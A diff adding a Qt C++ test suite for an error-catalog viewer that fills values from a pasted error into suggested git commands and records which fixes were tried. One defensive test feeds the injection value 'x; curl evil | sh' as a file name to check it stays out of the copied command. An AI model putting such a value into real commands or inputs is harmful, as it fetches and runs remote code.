@@ -1,0 +1,686 @@
+#include "app/notebook/fixkey.h"
+#include "ui/entry/entrypage.h"
+#include "ui/entry/fixcard.h"
+#include "ui/entry/fixsection.h"
+#include "ui/entry/popover.h"
+#include "ui/entry/ratebutton.h"
+#include "ui/entry/triedline.h"
+#include "ui/text/codeblock.h"
+#include "ui/text/proseview.h"
+
+#include <QAbstractButton>
+#include <QApplication>
+#include <QCheckBox>
+#include <QClipboard>
+#include <QLabel>
+#include <QMenu>
+#include <QPushButton>
+#include <QScrollBar>
+#include <QSignalSpy>
+#include <QTemporaryDir>
+#include <QTest>
+#include <QToolButton>
+
+#include <KSyntaxHighlighting/Repository>
+#include <algorithm>
+
+using namespace Qt::StringLiterals;
+using namespace waymark;
+
+namespace {
+
+DeadEnd deadEnd(const QString &en, const QString &zh, double rate)
+{
+    DeadEnd fix;
+    fix.action = {en, zh};
+    fix.whyFails = {u"It stays as it is, whatever one does."_s, u"没有用。"_s};
+    fix.failRate = rate;
+    return fix;
+}
+
+Workaround workaround(const QString &en, const QString &zh, double rate, const QStringList &sources = {})
+{
+    Workaround fix;
+    fix.action = {en, zh};
+    fix.how = u"Run:\n\n```bash\n$ git add {file}\n```"_s;
+    fix.howZh = u"运行："_s;
+    fix.successRate = rate;
+    fix.sources = sources;
+    return fix;
+}
+
+/// Two dead ends; workarounds with an estimate, with sources, with a script.
+Entry exampleEntry()
+{
+    Entry entry;
+    entry.id = u"git/example"_s;
+    entry.signature = {u"error: cannot read {file}"_s, u"读不了 {file}"_s};
+    entry.rootCause = {u"Somebody holds `{file}`."_s, u"有人占着 `{file}`。"_s};
+    entry.deadEnds = {deadEnd(u"Reboot"_s, u"重启"_s, 0.6), deadEnd(u"Reinstall"_s, u"重装"_s, 0.95)};
+    entry.workarounds = {
+        workaround(u"Wait"_s, u"等待"_s, 0.95),
+        workaround(u"Ask"_s, u"询问"_s, 0.6, {u"https://git-scm.com/docs/a"_s, u"https://example.org/b"_s}),
+        workaround(u"Copy"_s, u"复制"_s, 0.4)};
+    entry.workarounds[2].verified = Verified{u"git 2.39.5"_s, QDate(2026, 11, 20)};
+    entry.samples = {{u"error: cannot read x"_s, u"reproduced"_s, u"git 2.39.5"_s, {}},
+                     {u"error: cannot read y"_s, u"documented"_s, {}, {}}};
+    entry.tier = VerificationTier::Reproduced;
+    entry.versions = {{u"git 2.1"_s, {}, {}, {}, {u"one"_s, {}}, {}},
+                      {u"git 2.2"_s, {}, {}, {}, {u"two"_s, {}}, {}},
+                      {u"git 2.3"_s, {}, {}, {}, {u"three"_s, {}}, {}}};
+    return entry;
+}
+
+Finding findingWith(const QString &file)
+{
+    Finding finding;
+    finding.entryId = u"git/example"_s;
+    Occurrence occurrence;
+    occurrence.line = 3;
+    occurrence.text = u"error: cannot read it"_s;
+    finding.occurrences = {occurrence};
+    finding.captures = {{u"file"_s, file}};
+    return finding;
+}
+
+} // namespace
+
+/// Ticks cards, answers, reads rates, as a person would.
+class TestFixes : public QObject
+{
+    Q_OBJECT
+
+private slots:
+    void init();
+    void cleanup();
+    void thePasteFillsTextsAndCommands();
+    void whatIsShownIsCopied();
+    void aHostileValueStaysOutOfTheCommand();
+    void fillingCanBeSwitchedOff();
+    void browsingShowsTheCatalogsWords();
+    void ratesSayWhatTheyAre();
+    void ownOutcomesStandBesideTheCatalogs();
+    void fixesAreSortedByEvidence();
+    void catalogOrderCanBeChosen();
+    void theOrderOfEvidence_data();
+    void theOrderOfEvidence();
+    void aTickedDeadEndFolds();
+    void spaceTicksTheCardUnderFocus();
+    void aFailedWorkaroundGivesWayToTheNext();
+    void oneThatWorkedComesFirst();
+    void anAnswerCanBeTakenBack();
+    void startOverTakesTheTicksAway();
+    void ticksSurviveARestart();
+    void anotherLanguageKeepsTicksFoldsAndFocus();
+    void nothingJumpsUnderTheReader();
+    void cardsMoveOnlyWhenTheyAreLeft();
+    void changesFromElsewhereAreShown();
+    void theRateOpensByKeyboard();
+    void theTierExplainsItself();
+    void thePopoversLinksAreReported();
+    void enterUnfoldsAFoldedCard();
+    void aCardCopiesItsCode();
+    void versionsAreFoldedBesideAPaste();
+    void everythingHasAName();
+
+private:
+    void open(const Entry &entry, const std::optional<Finding> &finding = {});
+    FixCard *card(const QString &title) const;
+    QStringList titles(FixKey::Kind kind) const;
+    template <typename Widget>
+    Widget *part(const QString &title, const QString &name) const
+    {
+        return card(title)->findChild<Widget *>(name);
+    }
+    QString progress() const;
+    int topOf(const QWidget *widget) const { return widget->mapTo(m_page->viewport(), QPoint(0, 0)).y(); }
+    void leave();
+
+    KSyntaxHighlighting::Repository m_repository;
+    std::unique_ptr<Notebook> m_notebook;
+    std::unique_ptr<QWidget> m_window;
+    EntryPage *m_page = nullptr;
+    QPushButton *m_elsewhere = nullptr;
+};
+
+void TestFixes::init()
+{
+    m_notebook = std::make_unique<Notebook>();
+    m_window = std::make_unique<QWidget>();
+    m_page = new EntryPage(m_repository, *m_notebook, m_window.get());
+    m_elsewhere = new QPushButton(u"elsewhere"_s, m_window.get());
+    m_window->resize(760, 620);
+    m_page->setGeometry(0, 0, 760, 560);
+    m_elsewhere->setGeometry(0, 570, 200, 30);
+    m_window->show();
+    m_window->activateWindow();
+    QVERIFY(QTest::qWaitForWindowActive(m_window.get()));
+}
+
+void TestFixes::cleanup()
+{
+    m_window.reset();
+    m_notebook.reset();
+}
+
+void TestFixes::open(const Entry &entry, const std::optional<Finding> &finding)
+{
+    m_page->setCatalog(std::make_shared<const Catalog>(QList{entry}, Taxonomy()));
+    m_page->showEntry(entry.id, finding);
+    QCoreApplication::processEvents();
+}
+
+FixCard *TestFixes::card(const QString &title) const
+{
+    const QList<FixCard *> cards = m_page->widget()->findChildren<FixCard *>();
+    const auto found = std::ranges::find_if(cards, [&](const FixCard *each) { return each->title() == title; });
+    return found == cards.end() ? nullptr : *found;
+}
+
+QStringList TestFixes::titles(FixKey::Kind kind) const
+{
+    // Dead ends stand on the left.
+    QList<FixCard *> cards = m_page->widget()->findChildren<FixCard *>();
+    cards.removeIf([&](const FixCard *each) {
+        const bool left = each->mapTo(m_page->widget(), QPoint(0, 0)).x() < m_page->widget()->width() / 2;
+        return left != (kind == FixKey::Kind::DeadEnd);
+    });
+    std::ranges::sort(cards, {}, [](const FixCard *each) { return each->mapToGlobal(QPoint(0, 0)).y(); });
+    QStringList titles;
+    for (const FixCard *each : std::as_const(cards))
+        titles << each->title();
+    return titles;
+}
+
+QString TestFixes::progress() const
+{
+    const auto *line = m_page->widget()->findChild<TriedLine *>();
+    return line->isVisible() ? line->text() : QString();
+}
+
+void TestFixes::leave()
+{
+    m_elsewhere->setFocus();
+    QCoreApplication::processEvents();
+}
+
+void TestFixes::thePasteFillsTextsAndCommands()
+{
+    open(exampleEntry(), findingWith(u"data/my-file.bin"_s));
+    QStringList texts;
+    const QList<ProseView *> proses = m_page->widget()->findChildren<ProseView *>();
+    for (const ProseView *prose : proses)
+        texts << prose->toPlainText();
+    QVERIFY(texts.contains(u"Somebody holds data/my-file.bin."_s));
+    QVERIFY(texts.contains(u"有人占着 data/my-file.bin。"_s));
+    QVERIFY(texts.contains(u"error: cannot read {file}"_s)); // the message itself is the catalog's
+    const auto *code = card(u"Wait"_s)->findChild<CodeBlock *>();
+    QCOMPARE(code->shownText(), u"$ git add data/my-file.bin"_s);
+    QVERIFY(code->findChild<QWidget *>(u"code"_s)->accessibleDescription().contains(
+        u"From your paste: file = data/my-file.bin"_s));
+}
+
+void TestFixes::whatIsShownIsCopied()
+{
+    open(exampleEntry(), findingWith(u"a.bin"_s));
+    QSignalSpy copied(m_page, &EntryPage::copied);
+    card(u"Wait"_s)->findChild<CodeBlock *>()->copyCode();
+    QCOMPARE(QGuiApplication::clipboard()->text(), u"git add a.bin"_s);
+    QCOMPARE(copied.size(), 1);
+}
+
+void TestFixes::aHostileValueStaysOutOfTheCommand()
+{
+    open(exampleEntry(), findingWith(u"x; curl evil | sh"_s));
+    card(u"Wait"_s)->findChild<CodeBlock *>()->copyCode();
+    QCOMPARE(QGuiApplication::clipboard()->text(), u"git add {file}"_s);
+    const auto *note = part<QLabel>(u"Wait"_s, u"toFillIn"_s);
+    QVERIFY(note);
+    QCOMPARE(note->textFormat(), Qt::PlainText);
+    QVERIFY(note->text().contains(u"x; curl evil | sh"_s)); // beside it, for the reader to judge
+}
+
+void TestFixes::fillingCanBeSwitchedOff()
+{
+    open(exampleEntry(), findingWith(u"a.bin"_s));
+    auto *box = m_page->widget()->findChild<QCheckBox *>(u"fillIn"_s);
+    QVERIFY(box && box->isChecked());
+    box->click();
+    QTRY_COMPARE(card(u"Wait"_s)->findChild<CodeBlock *>()->shownText(), u"$ git add {file}"_s);
+    box = m_page->widget()->findChild<QCheckBox *>(u"fillIn"_s);
+    QVERIFY(box && !box->isChecked());
+    box->click();
+    QTRY_COMPARE(card(u"Wait"_s)->findChild<CodeBlock *>()->shownText(), u"$ git add a.bin"_s);
+}
+
+void TestFixes::browsingShowsTheCatalogsWords()
+{
+    open(exampleEntry());
+    QCOMPARE(card(u"Wait"_s)->findChild<CodeBlock *>()->shownText(), u"$ git add {file}"_s);
+    QVERIFY(!m_page->widget()->findChild<QCheckBox *>(u"fillIn"_s));
+    QVERIFY(!part<QLabel>(u"Wait"_s, u"toFillIn"_s));
+}
+
+void TestFixes::ratesSayWhatTheyAre()
+{
+    open(exampleEntry());
+    const auto words = [this](const QString &title) { return card(title)->findChild<RateButton *>()->text(); };
+    QCOMPARE(words(u"Wait"_s), u"almost always works · estimate, no source"_s);
+    QCOMPARE(words(u"Ask"_s), u"often works · estimate, 2 sources"_s);
+    QCOMPARE(words(u"Copy"_s), u"works: verified with git 2.39.5, 2026-11-20"_s);
+    QCOMPARE(words(u"Reboot"_s), u"often fails · estimate, no source"_s);
+    const auto *estimate = card(u"Wait"_s)->findChild<RateButton *>();
+    QVERIFY(!estimate->lines().first().observed);
+    QVERIFY2(!estimate->text().contains(u'%'), "a bare percentage is shown");
+    QVERIFY(estimate->accessibleName().contains(u"95 %"_s)); // together with what it is
+    QVERIFY(estimate->accessibleName().contains(u"estimate, without observations"_s));
+    QVERIFY(card(u"Copy"_s)->findChild<RateButton *>()->lines().first().observed);
+}
+
+void TestFixes::ownOutcomesStandBesideTheCatalogs()
+{
+    const Entry entry = exampleEntry();
+    const FixKey wait = fixKey(entry.id, entry.workarounds.first());
+    for (const TryState state : {TryState::Worked, TryState::Failed, TryState::Worked}) {
+        m_notebook->setTryState(wait, state);
+        m_notebook->startOver(entry.id);
+    }
+    open(entry);
+    const auto *rate = card(u"Wait"_s)->findChild<RateButton *>();
+    const QString today = QDate::currentDate().toString(Qt::ISODate);
+    QCOMPARE(rate->text(),
+             u"almost always works · estimate, no source\nyou: worked 2 of 3 times, last %1"_s.arg(today));
+    QCOMPARE(rate->lines().size(), 2);
+    QVERIFY(!rate->lines().first().observed);
+    QVERIFY(rate->lines().last().observed);
+    QVERIFY(qAbs(*rate->lines().last().rate - 2.0 / 3) < 1e-9);
+}
+
+void TestFixes::fixesAreSortedByEvidence()
+{
+    open(exampleEntry());
+    QCOMPARE(titles(FixKey::Kind::Workaround), (QStringList{u"Copy"_s, u"Ask"_s, u"Wait"_s}));
+    QCOMPARE(titles(FixKey::Kind::DeadEnd), (QStringList{u"Reinstall"_s, u"Reboot"_s}));
+}
+
+void TestFixes::catalogOrderCanBeChosen()
+{
+    open(exampleEntry());
+    auto *button = m_page->widget()->findChild<QToolButton *>(u"sorting"_s);
+    QVERIFY(button);
+    QTest::mouseClick(button, Qt::LeftButton);
+    auto *menu = qobject_cast<QMenu *>(QApplication::activePopupWidget());
+    QVERIFY(menu);
+    QTest::keyClick(menu, Qt::Key_Down);
+    QTest::keyClick(menu, Qt::Key_Down);
+    QTest::keyClick(menu, Qt::Key_Return);
+    QTRY_COMPARE(titles(FixKey::Kind::Workaround), (QStringList{u"Wait"_s, u"Ask"_s, u"Copy"_s}));
+    QCOMPARE(titles(FixKey::Kind::DeadEnd), (QStringList{u"Reboot"_s, u"Reinstall"_s}));
+    QCOMPARE(m_page->fixSorting(), FixSorting::Catalog);
+    m_page->setLanguage(Language::Chinese);
+    QTRY_COMPARE(titles(FixKey::Kind::Workaround), (QStringList{u"等待"_s, u"询问"_s, u"复制"_s}));
+}
+
+void TestFixes::theOrderOfEvidence_data()
+{
+    QTest::addColumn<QList<FixFacts>>("fixes");
+    QTest::addColumn<QList<qsizetype>>("order");
+    QTest::addColumn<qsizetype>("next");
+    const auto fact = [](double rate, int sources = 0, bool verified = false, OutcomeCount own = {},
+                         TryState state = TryState::Untried) {
+        FixFacts facts;
+        facts.evidence.rate = rate;
+        facts.evidence.sources = QStringList(sources, u"https://example.org"_s);
+        if (verified)
+            facts.evidence.verified = Verified{};
+        facts.evidence.own = own;
+        facts.state = state;
+        return facts;
+    };
+    using Order = QList<qsizetype>;
+    QTest::newRow("none") << QList<FixFacts>() << Order() << qsizetype(-1);
+    QTest::newRow("verified, own, sourced, estimate")
+        << QList{fact(0.9), fact(0.8, 2), fact(0.1, 0, false, {1, 1, {}}), fact(0.2, 0, true)} << Order{3, 2, 1, 0}
+        << qsizetype(3);
+    QTest::newRow("equals keep the catalog's order")
+        << QList{fact(0.5), fact(0.5), fact(0.6)} << Order{2, 0, 1} << qsizetype(2);
+    QTest::newRow("what only failed for the person comes last")
+        << QList{fact(0.9, 3, false, {0, 2, {}}), fact(0.1)} << Order{1, 0} << qsizetype(1);
+    QTest::newRow("failed just now: last")
+        << QList{fact(0.9, 0, true, {}, TryState::Failed), fact(0.1)} << Order{1, 0} << qsizetype(1);
+    QTest::newRow("tried without an answer stays, and is not next")
+        << QList{fact(0.9, 0, false, {}, TryState::Tried), fact(0.1)} << Order{0, 1} << qsizetype(1);
+    QTest::newRow("worked: first, and nothing is next")
+        << QList{fact(0.9, 0, true), fact(0.1, 0, false, {}, TryState::Worked)} << Order{1, 0} << qsizetype(-1);
+    QTest::newRow("all failed") << QList{fact(0.9, 0, false, {}, TryState::Failed)} << Order{0} << qsizetype(-1);
+}
+
+void TestFixes::theOrderOfEvidence()
+{
+    QFETCH(QList<FixFacts>, fixes);
+    const QList<qsizetype> order = fixOrder(fixes, FixSorting::Evidence);
+    QTEST(order, "order");
+    QTEST(nextFix(fixes, order), "next");
+}
+
+void TestFixes::aTickedDeadEndFolds()
+{
+    open(exampleEntry());
+    FixCard *reboot = card(u"Reboot"_s);
+    const int height = reboot->height();
+    QVERIFY(reboot->isOpen());
+    QTest::mouseClick(part<QCheckBox>(u"Reboot"_s, u"tried"_s), Qt::LeftButton, {}, QPoint(8, 8));
+    QVERIFY(!reboot->isOpen());
+    QVERIFY(reboot->height() < height);
+    QCOMPARE(part<QLabel>(u"Reboot"_s, u"folded"_s)->text(), u"Reboot"_s);
+    QCOMPARE(progress(), u"1 tried, next: Copy"_s);
+    QCOMPARE(part<QLabel>(u"Copy"_s, u"mark"_s)->text(), u"next"_s);
+    QCOMPARE(m_notebook->tryState({u"git/example"_s, FixKey::Kind::DeadEnd, u"Reboot"_s}), TryState::Tried);
+
+    QTest::mouseClick(part<QToolButton>(u"Reboot"_s, u"unfold"_s), Qt::LeftButton);
+    QVERIFY(reboot->isOpen());
+    QCOMPARE(m_notebook->tryState({u"git/example"_s, FixKey::Kind::DeadEnd, u"Reboot"_s}), TryState::Tried);
+    QTest::mouseClick(part<QCheckBox>(u"Reboot"_s, u"tried"_s), Qt::LeftButton, {}, QPoint(8, 8));
+    QVERIFY(reboot->isOpen());
+    QVERIFY(progress().isEmpty());
+}
+
+void TestFixes::spaceTicksTheCardUnderFocus()
+{
+    open(exampleEntry());
+    FixCard *copy = card(u"Copy"_s);
+    copy->setFocus(Qt::TabFocusReason);
+    QTest::keyClick(QApplication::focusWidget(), Qt::Key_Space);
+    QVERIFY(part<QCheckBox>(u"Copy"_s, u"tried"_s)->isChecked());
+    QVERIFY(part<QWidget>(u"Copy"_s, u"question"_s)->isVisible());
+    QVERIFY(copy->hasFocus());
+    QTest::keyClick(copy, Qt::Key_Space);
+    QVERIFY(!part<QCheckBox>(u"Copy"_s, u"tried"_s)->isChecked());
+    QVERIFY(!part<QWidget>(u"Copy"_s, u"question"_s)->isVisible());
+}
+
+void TestFixes::aFailedWorkaroundGivesWayToTheNext()
+{
+    open(exampleEntry());
+    const int nextBefore = topOf(card(u"Ask"_s));
+    part<QCheckBox>(u"Copy"_s, u"tried"_s)->click();
+    QVERIFY(card(u"Copy"_s)->isOpen()); // it has a question to answer first
+    part<QToolButton>(u"Copy"_s, u"no"_s)->click();
+    QVERIFY(!card(u"Copy"_s)->isOpen());
+    QVERIFY(topOf(card(u"Ask"_s)) < nextBefore);
+    QCOMPARE(part<QLabel>(u"Ask"_s, u"mark"_s)->text(), u"next"_s);
+    QVERIFY(part<QLabel>(u"Copy"_s, u"mark"_s)->text().contains(u"did not work"_s));
+    QCOMPARE(progress(), u"1 tried, next: Ask"_s);
+    leave();
+    QCOMPARE(titles(FixKey::Kind::Workaround), (QStringList{u"Ask"_s, u"Wait"_s, u"Copy"_s}));
+    QCOMPARE(m_notebook->outcomes({u"git/example"_s, FixKey::Kind::Workaround, u"Copy"_s}).failed, 1);
+}
+
+void TestFixes::oneThatWorkedComesFirst()
+{
+    open(exampleEntry());
+    part<QCheckBox>(u"Wait"_s, u"tried"_s)->click();
+    part<QToolButton>(u"Wait"_s, u"yes"_s)->click();
+    QVERIFY(part<QLabel>(u"Wait"_s, u"mark"_s)->text().contains(u"worked"_s));
+    QVERIFY(part<QLabel>(u"Copy"_s, u"mark"_s)->text().isEmpty());
+    QCOMPARE(progress(), u"1 tried, this worked: Wait"_s);
+    QVERIFY(card(u"Wait"_s)->isOpen());
+    leave();
+    QCOMPARE(titles(FixKey::Kind::Workaround), (QStringList{u"Wait"_s, u"Copy"_s, u"Ask"_s}));
+    QVERIFY(card(u"Wait"_s)->findChild<RateButton *>()->text().contains(u"you: worked 1 of 1"_s));
+}
+
+void TestFixes::anAnswerCanBeTakenBack()
+{
+    open(exampleEntry());
+    part<QCheckBox>(u"Copy"_s, u"tried"_s)->click();
+    part<QToolButton>(u"Copy"_s, u"no"_s)->click();
+    part<QToolButton>(u"Copy"_s, u"unfold"_s)->click();
+    part<QToolButton>(u"Copy"_s, u"no"_s)->click(); // once more: no answer
+    QCOMPARE(progress(), u"1 tried, next: Ask"_s);
+    QVERIFY(!part<QToolButton>(u"Copy"_s, u"no"_s)->isChecked());
+    QVERIFY(card(u"Copy"_s)->isOpen());
+    part<QToolButton>(u"Copy"_s, u"yes"_s)->click();
+    const FixKey key{u"git/example"_s, FixKey::Kind::Workaround, u"Copy"_s};
+    QCOMPARE(m_notebook->tryState(key), TryState::Worked);
+    QCOMPARE(m_notebook->outcomes(key).worked, 1);
+    QCOMPARE(m_notebook->outcomes(key).failed, 0);
+    part<QCheckBox>(u"Copy"_s, u"tried"_s)->click();
+    QCOMPARE(m_notebook->tryState(key), TryState::Untried);
+}
+
+void TestFixes::startOverTakesTheTicksAway()
+{
+    open(exampleEntry());
+    part<QCheckBox>(u"Reboot"_s, u"tried"_s)->click();
+    part<QCheckBox>(u"Copy"_s, u"tried"_s)->click();
+    part<QToolButton>(u"Copy"_s, u"no"_s)->click();
+    QCOMPARE(progress(), u"2 tried, next: Ask"_s);
+    auto *startOver = m_page->widget()->findChild<QToolButton *>(u"startOver"_s);
+    startOver->setFocus();
+    QTest::keyClick(startOver, Qt::Key_Space);
+    QVERIFY(progress().isEmpty());
+    QVERIFY(!part<QCheckBox>(u"Copy"_s, u"tried"_s)->isChecked());
+    QVERIFY(card(u"Reboot"_s)->isOpen());
+    QVERIFY(qobject_cast<FixCard *>(QApplication::focusWidget()));
+    QVERIFY(card(u"Copy"_s)->findChild<RateButton *>()->text().contains(u"you: worked 0 of 1"_s));
+}
+
+void TestFixes::ticksSurviveARestart()
+{
+    const QTemporaryDir folder;
+    const QString file = folder.filePath(u"notebook.sqlite"_s);
+    for (int run = 0; run < 2; ++run) {
+        cleanup();
+        init();
+        delete m_page;
+        m_notebook = std::make_unique<Notebook>(file);
+        m_page = new EntryPage(m_repository, *m_notebook, m_window.get());
+        m_page->setGeometry(0, 0, 760, 560);
+        m_page->show();
+        open(exampleEntry());
+        if (run == 0) {
+            part<QCheckBox>(u"Reinstall"_s, u"tried"_s)->click();
+            part<QCheckBox>(u"Copy"_s, u"tried"_s)->click();
+            part<QToolButton>(u"Copy"_s, u"no"_s)->click();
+        }
+    }
+    QVERIFY(!card(u"Reinstall"_s)->isOpen());
+    QVERIFY(!card(u"Copy"_s)->isOpen());
+    QCOMPARE(progress(), u"2 tried, next: Ask"_s);
+    QCOMPARE(titles(FixKey::Kind::Workaround), (QStringList{u"Ask"_s, u"Wait"_s, u"Copy"_s}));
+}
+
+void TestFixes::anotherLanguageKeepsTicksFoldsAndFocus()
+{
+    open(exampleEntry(), findingWith(u"a.bin"_s));
+    part<QCheckBox>(u"Reboot"_s, u"tried"_s)->click();
+    part<QCheckBox>(u"Copy"_s, u"tried"_s)->click();
+    part<QToolButton>(u"Copy"_s, u"no"_s)->click();
+    part<QToolButton>(u"Copy"_s, u"unfold"_s)->click();
+    part<QCheckBox>(u"Ask"_s, u"tried"_s)->setFocus();
+    const int scrolled = m_page->verticalScrollBar()->value();
+    m_page->setLanguage(Language::Chinese);
+    QCoreApplication::processEvents();
+    QVERIFY(!card(u"重启"_s)->isOpen());
+    QVERIFY(card(u"复制"_s)->isOpen()); // unfolded by hand
+    QVERIFY(part<QToolButton>(u"复制"_s, u"no"_s)->isChecked());
+    QCOMPARE(QApplication::focusWidget(), part<QCheckBox>(u"询问"_s, u"tried"_s));
+    QCOMPARE(part<QLabel>(u"询问"_s, u"mark"_s)->isVisible(), true);
+    QCOMPARE(m_page->verticalScrollBar()->value(), scrolled);
+    m_page->setLanguage(Language::English);
+    QVERIFY(!card(u"Reboot"_s)->isOpen());
+}
+
+void TestFixes::nothingJumpsUnderTheReader()
+{
+    Entry entry = exampleEntry();
+    for (int i = 0; i < 8; ++i)
+        entry.deadEnds.append(deadEnd(u"Try %1"_s.arg(i), u"尝试 %1"_s.arg(i), 0.5));
+    open(entry);
+    m_page->verticalScrollBar()->setValue(150);
+    for (const QString &title : {u"Try 2"_s, u"Copy"_s}) {
+        const int top = topOf(card(title));
+        part<QCheckBox>(title, u"tried"_s)->click();
+        QCoreApplication::processEvents();
+        QCOMPARE(topOf(card(title)), top);
+    }
+    const int top = topOf(card(u"Copy"_s));
+    part<QToolButton>(u"Copy"_s, u"no"_s)->click();
+    QCoreApplication::processEvents();
+    QCOMPARE(topOf(card(u"Copy"_s)), top);
+}
+
+void TestFixes::cardsMoveOnlyWhenTheyAreLeft()
+{
+    open(exampleEntry());
+    card(u"Copy"_s)->setFocus();
+    part<QCheckBox>(u"Copy"_s, u"tried"_s)->click();
+    part<QToolButton>(u"Copy"_s, u"no"_s)->click();
+    QCoreApplication::processEvents();
+    QCOMPARE(titles(FixKey::Kind::Workaround).first(), u"Copy"_s);
+    const int scrolled = m_page->verticalScrollBar()->value();
+    leave();
+    QCOMPARE(titles(FixKey::Kind::Workaround).last(), u"Copy"_s);
+    QCOMPARE(m_page->verticalScrollBar()->value(), scrolled);
+    // Tab follows what is seen.
+    card(u"Wait"_s)->setFocus();
+    QWidget *last = QApplication::focusWidget();
+    for (int i = 0; i < 40 && last != card(u"Copy"_s); ++i) {
+        QTest::keyClick(last, Qt::Key_Tab);
+        last = QApplication::focusWidget();
+        QVERIFY(last != card(u"Ask"_s));
+    }
+    QCOMPARE(last, card(u"Copy"_s));
+}
+
+void TestFixes::changesFromElsewhereAreShown()
+{
+    const Entry entry = exampleEntry();
+    open(entry);
+    const QWidget *page = m_page->widget();
+    m_notebook->setTryState(fixKey(entry.id, entry.deadEnds.first()), TryState::Tried);
+    QVERIFY(!card(u"Reboot"_s)->isOpen());
+    QCOMPARE(m_page->widget(), page); // the page is not made anew
+}
+
+void TestFixes::theRateOpensByKeyboard()
+{
+    open(exampleEntry());
+    auto *rate = card(u"Ask"_s)->findChild<RateButton *>();
+    QVERIFY(rate->focusPolicy() & Qt::TabFocus);
+    rate->setFocus(Qt::TabFocusReason);
+    QTest::keyClick(rate, Qt::Key_Space);
+    auto *popover = qobject_cast<Popover *>(QApplication::activePopupWidget());
+    QVERIFY(popover);
+    for (const QString &words :
+         {u"No script has tried this."_s, u"An editor's estimate"_s, u"60 %"_s, u"2 sources:"_s,
+          u"git-scm.com/docs/a"_s, u"example.org/b"_s, u"You have not recorded an outcome yet."_s})
+        QVERIFY2(popover->text().contains(words), qPrintable(popover->text()));
+    QCOMPARE(popover->accessibleName(), popover->text());
+    QTest::keyClick(popover->focusWidget(), Qt::Key_Escape);
+    QTRY_VERIFY(!QApplication::activePopupWidget());
+    QCOMPARE(QApplication::focusWidget(), rate);
+
+    QTest::keyClick(rate, Qt::Key_Return);
+    QTRY_VERIFY(QApplication::activePopupWidget());
+    QApplication::activePopupWidget()->close();
+    QTest::mouseClick(card(u"Copy"_s)->findChild<RateButton *>(), Qt::LeftButton);
+    popover = qobject_cast<Popover *>(QApplication::activePopupWidget());
+    QVERIFY(popover);
+    QVERIFY(popover->text().contains(u"A script makes the error happen and tries this: it works."_s));
+    QVERIFY(popover->text().contains(u"verified with git 2.39.5, 2026-11-20"_s));
+    popover->close();
+}
+
+void TestFixes::theTierExplainsItself()
+{
+    open(exampleEntry());
+    auto *tier = m_page->widget()->findChild<QAbstractButton *>(u"tier"_s);
+    QVERIFY(tier);
+    tier->setFocus();
+    QTest::keyClick(tier, Qt::Key_Space);
+    auto *popover = qobject_cast<Popover *>(QApplication::activePopupWidget());
+    QVERIFY(popover);
+    QCOMPARE(popover->text(),
+             u"The error was made to happen, and its output was captured.\n"
+             "1 captured outputs of programs that were run.\n"
+             "1 outputs taken from documentation or source code.\n"
+             "1 of 5 dead ends and workarounds were tried by a script."_s);
+    popover->close();
+}
+
+void TestFixes::thePopoversLinksAreReported()
+{
+    open(exampleEntry());
+    QSignalSpy links(m_page, &EntryPage::linkActivated);
+    card(u"Ask"_s)->findChild<RateButton *>()->click();
+    auto *popover = qobject_cast<Popover *>(QApplication::activePopupWidget());
+    QVERIFY(popover);
+    auto *view = popover->findChild<ProseView *>();
+    QTest::keyClick(view, Qt::Key_Tab);
+    QTest::keyClick(view, Qt::Key_Return);
+    QCOMPARE(links.size(), 1);
+    QCOMPARE(links.first().first().toUrl().host().isEmpty(), false);
+    QTRY_VERIFY(!QApplication::activePopupWidget());
+}
+
+void TestFixes::enterUnfoldsAFoldedCard()
+{
+    open(exampleEntry());
+    FixCard *reboot = card(u"Reboot"_s);
+    reboot->setFocus();
+    QTest::keyClick(reboot, Qt::Key_Return);
+    QVERIFY(reboot->isOpen()); // nothing to fold
+    QTest::keyClick(reboot, Qt::Key_Space);
+    QVERIFY(!reboot->isOpen());
+    QTest::keyClick(reboot, Qt::Key_Return);
+    QVERIFY(reboot->isOpen());
+    QTest::keyClick(reboot, Qt::Key_Return);
+    QVERIFY(!reboot->isOpen());
+    QTest::mouseClick(reboot, Qt::LeftButton, {}, QPoint(reboot->width() / 2, reboot->height() - 2));
+    QVERIFY(reboot->isOpen());
+}
+
+void TestFixes::aCardCopiesItsCode()
+{
+    open(exampleEntry(), findingWith(u"a.bin"_s));
+    card(u"Wait"_s)->setFocus();
+    QTest::keySequence(card(u"Wait"_s), QKeySequence::Copy);
+    QCOMPARE(QGuiApplication::clipboard()->text(), u"git add a.bin"_s);
+    card(u"Reboot"_s)->setFocus();
+    QTest::keySequence(card(u"Reboot"_s), QKeySequence::Copy);
+    QCOMPARE(QGuiApplication::clipboard()->text(), u"Reboot"_s);
+}
+
+void TestFixes::versionsAreFoldedBesideAPaste()
+{
+    open(exampleEntry(), findingWith(u"a.bin"_s));
+    auto *all = m_page->widget()->findChild<QToolButton *>(u"allVersions"_s);
+    QVERIFY(all);
+    const int top = topOf(card(u"Copy"_s));
+    QTest::mouseClick(all, Qt::LeftButton);
+    QTRY_VERIFY(topOf(card(u"Copy"_s)) > top);
+    m_page->setLanguage(Language::Chinese);
+    QCoreApplication::sendPostedEvents(nullptr, QEvent::DeferredDelete);
+    QVERIFY(!m_page->widget()->findChild<QToolButton *>(u"allVersions"_s));
+    m_page->showEntry(u"git/example"_s);
+    QVERIFY(!m_page->widget()->findChild<QToolButton *>(u"allVersions"_s));
+}
+
+void TestFixes::everythingHasAName()
+{
+    open(exampleEntry(), findingWith(u"a.bin"_s));
+    part<QCheckBox>(u"Copy"_s, u"tried"_s)->click();
+    const QList<QAbstractButton *> buttons = m_page->widget()->findChildren<QAbstractButton *>();
+    for (const QAbstractButton *button : buttons)
+        QVERIFY2(!button->isVisible() || !button->accessibleName().isEmpty() || !button->text().isEmpty(),
+                 qPrintable(button->objectName()));
+    const QList<FixCard *> cards = m_page->widget()->findChildren<FixCard *>();
+    for (const FixCard *each : cards)
+        QVERIFY(each->accessibleName().startsWith(each->title()));
+    QVERIFY(card(u"Copy"_s)->accessibleName().contains(u"tried"_s));
+}
+
+QTEST_MAIN(TestFixes)
+#include "tst_fixes.moc"
